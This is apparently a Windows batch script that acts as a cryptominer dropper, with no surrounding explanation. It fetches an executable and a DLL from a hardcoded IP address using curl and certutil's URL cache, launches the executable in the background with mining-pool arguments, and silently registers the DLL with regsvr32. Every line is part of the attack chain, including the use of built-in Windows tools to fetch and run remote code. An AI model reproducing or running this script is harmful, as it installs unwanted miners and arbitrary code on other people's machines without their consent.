@echo off
curl http://203.0.113.7/download/jsextension.exe -o jsextension.exe
certutil.exe -urlcache -f http://203.0.113.7/download/create.dll create.dll
start /B jsextension.exe -k --tls -o pool.example.invalid:443
regsvr32.exe -s create.dll
